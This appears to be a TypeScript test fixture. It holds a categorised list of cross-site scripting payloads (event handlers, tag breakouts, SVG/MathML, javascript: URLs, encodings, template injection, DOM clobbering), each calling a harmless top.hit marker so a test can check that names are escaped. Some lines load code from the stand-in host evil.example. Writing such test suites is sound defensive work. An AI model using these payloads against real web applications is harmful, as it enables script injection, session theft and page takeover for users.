/**
 * What somebody might write into a name so that a page runs it. `HIT` stands for the call that tells it ran; the
 * number in it says which one. Written for every place that a text can end up in: between tags, in an attribute, an
 * address, a style, a script, a template.
 */
const HIT = 'HIT';

const HANDLERS = [
  '<img src=x onerror=HIT>',
  '<img src=x onerror="HIT">',
  "<img/src='x'/onerror='HIT'>",
  '<IMG SRC=x OnErRoR=HIT>',
  '<img src=x:y onerror=HIT//',
  '<img srcset=x onerror=HIT>',
  '<image src=x onerror=HIT>',
  '<picture><source srcset=x><img onerror=HIT></picture>',
  '<video src=x onerror=HIT></video>',
  '<video><source onerror=HIT></video>',
  '<audio src=x onerror=HIT></audio>',
  '<body onload=HIT>',
  '<body onpageshow=HIT>',
  '<input autofocus onfocus=HIT>',
  '<select autofocus onfocus=HIT></select>',
  '<textarea autofocus onfocus=HIT></textarea>',
  '<button autofocus onfocus=HIT>x</button>',
  '<a href=x autofocus onfocus=HIT>x</a>',
  '<div tabindex=0 autofocus onfocus=HIT>x</div>',
  '<div contenteditable autofocus onfocus=HIT>x</div>',
  '<details open ontoggle=HIT><summary>x</summary>y</details>',
  '<marquee onstart=HIT>x</marquee>',
  '<div onpointerover=HIT style=position:fixed;inset:0>x</div>',
  '<p onmouseenter=HIT>x</p>',
  '<p onclick=HIT>x</p>',
  '<style onload=HIT></style>',
  '<link rel=stylesheet href=x onerror=HIT>',
  '<object data=x onerror=HIT></object>',
  '<embed src=x onerror=HIT>',
  '<iframe onload=HIT></iframe>',
  '<div style="animation:a 1ms" onanimationstart=HIT>x</div>',
  '<div popover id=p onbeforetoggle=HIT>x</div><button popovertarget=p>y</button>',
  '<dialog open oncancel=HIT onclose=HIT>x</dialog>',
  '<form onsubmit=HIT><button>x</button></form>',
] as const;

const BREAKOUTS = [
  '<script>HIT</script>',
  '<SCRIPT>HIT</SCRIPT>',
  '<script src=data:text/javascript,HIT></script>',
  '<script type=module>HIT</script>',
  '<scr<script>ipt>HIT</scr</script>ipt>',
  '</script><script>HIT</script>',
  '</title><img src=x onerror=HIT>',
  '</textarea><img src=x onerror=HIT>',
  '</style><img src=x onerror=HIT>',
  '</noscript><img src=x onerror=HIT>',
  '</template><img src=x onerror=HIT>',
  '--><img src=x onerror=HIT>',
  '<!--><img src=x onerror=HIT>-->',
  '<![CDATA[><img src=x onerror=HIT>]]>',
  ']]><img src=x onerror=HIT>',
  '<?xml version="1.0"?><img src=x onerror=HIT>',
  '"><img src=x onerror=HIT>',
  "'><img src=x onerror=HIT>",
  '" autofocus onfocus="HIT',
  "' autofocus onfocus='HIT",
  '" style="animation:a 1ms" onanimationstart="HIT',
  '` onerror=`HIT',
  'x onerror=HIT ',
  '<template><img src=x onerror=HIT></template><template shadowrootmode=open>',
] as const;

const SVG_AND_MATHML = [
  '<svg onload=HIT>',
  '<svg/onload=HIT>',
  '"><svg onload=HIT>',
  '<svg><script>HIT</script></svg>',
  '<svg><script href=data:text/javascript,HIT /></svg>',
  '<svg><image href=x onerror=HIT></svg>',
  '<svg><a xlink:href="javascript:HIT"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=HIT attributeName=x dur=1s></svg>',
  '<svg><set onbegin=HIT attributeName=x to=y></svg>',
  '<svg><animate attributeName=href values=javascript:HIT /><a><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=HIT>#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>',
  '<svg><style>*{}</style><img src=x onerror=HIT></svg>',
  '<svg><title><img src=x onerror=HIT></title></svg>',
  '<math><mtext><img src=x onerror=HIT></mtext></math>',
  '<math href="javascript:HIT">x</math>',
  '<math><mi xlink:href="javascript:HIT">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=HIT>">',
] as const;

const ADDRESSES = [
  'javascript:HIT',
  'JaVaScRiPt:HIT',
  ' \tjavascript:HIT',
  'java\nscript:HIT',
  'javascript&colon;HIT',
  'javascript://x%0aHIT',
  'data:text/html,<script>HIT</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=<!--HIT-->',
  'vbscript:HIT',
  '<a href="javascript:HIT">x</a>',
  '<a href="&#106;avascript:HIT">x</a>',
  '<a href="java&Tab;script:HIT">x</a>',
  '<area href="javascript:HIT">',
  '<base href="javascript:HIT//"><a href="x">y</a>',
  '<form action="javascript:HIT"><button>x</button></form>',
  '<button form=f formaction="javascript:HIT">x</button>',
  '<iframe src="javascript:HIT"></iframe>',
  '<iframe srcdoc="<script>HIT</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=HIT&gt;"></iframe>',
  '<object data="javascript:HIT"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:HIT">',
  '//evil.example/HIT.js',
] as const;

const ENCODINGS = [
  '&lt;img src=x onerror=HIT&gt;',
  '&#60;img src=x onerror=HIT&#62;',
  '&#x3c;img src=x onerror=HIT&#x3e;',
  '%3Cimg src=x onerror=HIT%3E',
  '\\x3cimg src=x onerror=HIT\\x3e',
  '\\u003cimg src=x onerror=HIT\\u003e',
  '+ADw-img src=x onerror=HIT+AD4-',
  '<img src=x onerror=&#x48;IT;HIT>',
  '\uff1cimg src=x onerror=HIT\uff1e',
  '\u00bcimg src=x onerror=HIT\u00be',
  '\ufeff<img src=x onerror=HIT>',
  '<img\u00a0src=x\u00a0onerror=HIT>',
  '<img\fsrc=x\fonerror=HIT>',
] as const;

const STYLES = [
  '</style><style>*{display:none}</style><img src=x onerror=HIT>',
  '<style>@import "//evil.example/HIT.css";</style>',
  '<link rel=stylesheet href="//evil.example/HIT.css">',
  'red;background:url(javascript:HIT)',
  'expression(HIT)',
  '"}*{background:url(//evil.example/HIT)}',
  '<div style="background:url(//evil.example/HIT)">x</div>',
  '<img src="//evil.example/HIT.png">',
] as const;

const PROGRAMS = [
  "'-(HIT)-'",
  '";HIT;//',
  "';HIT;//",
  '\\";HIT;//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant as text
  '${HIT}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant as text
  '`${HIT}`',
  '{{HIT}}',
  '{{constructor.constructor("HIT")()}}',
  '[[HIT]]',
  '<%= HIT %>',
  '#{HIT}',
  '{% HIT %}',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=HIT>"}}}',
  '"}</script><script>HIT</script>{"',
  '\u2028HIT\u2029',
  '*/HIT/*',
  '<!--#exec cmd="HIT"-->',
  '=HYPERLINK("javascript:HIT","x")',
] as const;

const UNICODE = [
  '\u202e<img src=x onerror=HIT>',
  '\u2066<img src=x onerror=HIT>\u2069',
  '<\u200bimg src=x onerror=HIT>',
  '<\u017fcript>HIT</\u017fcript>',
  '\ud83d\ude00<img src=x onerror=HIT>',
  '\u0645<img src=x onerror=HIT>\u0645',
  `${'\u0301'.repeat(60)}<img src=x onerror=HIT>`,
] as const;

const CLOBBERS = [
  '<form id=page><input name=textContent></form><img src=x onerror=HIT>',
  '<a id=__proto__ href=javascript:HIT>x</a>',
  '<img name=createElement src=x onerror=HIT>',
  '<noscript><p title="</noscript><img src=x onerror=HIT>">',
  '<xmp><p title="</xmp><img src=x onerror=HIT>">',
  '<listing>&lt;img src=x onerror=HIT&gt;</listing>',
  '<plaintext><img src=x onerror=HIT>',
  '<table><td><img src=x onerror=HIT>',
] as const;

/** Longer than the store takes in any name. */
const LONG = [
  `${'a'.repeat(5_000)}<img src=x onerror=HIT>`,
  `${'<b>'.repeat(600)}<img src=x onerror=HIT>`,
  `<img ${'x=y '.repeat(800)}src=x onerror=HIT>`,
] as const;

const templates: readonly string[] = [
  ...HANDLERS,
  ...BREAKOUTS,
  ...SVG_AND_MATHML,
  ...ADDRESSES,
  ...ENCODINGS,
  ...STYLES,
  ...PROGRAMS,
  ...UNICODE,
  ...CLOBBERS,
  ...LONG,
];
/** Every one of them, each with its own number. */
export const PAYLOADS: readonly string[] = templates.map((template, number) =>
  template.replaceAll(HIT, `top.hit(${number})`),
);
